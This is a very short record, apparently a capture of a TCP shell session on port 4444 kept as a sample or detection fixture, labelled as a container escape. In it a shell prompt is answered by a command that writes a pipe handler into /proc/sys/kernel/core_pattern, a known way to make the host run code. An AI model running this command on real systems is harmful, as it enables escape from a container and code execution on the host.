# container escape, core_pattern written.
proto tcp
client 10.0.0.1:40000
server 10.0.0.2:4444

>>>
\x23\x20

<<<
echo '|/x %P' > /proc/sys/kernel/core_pattern\n
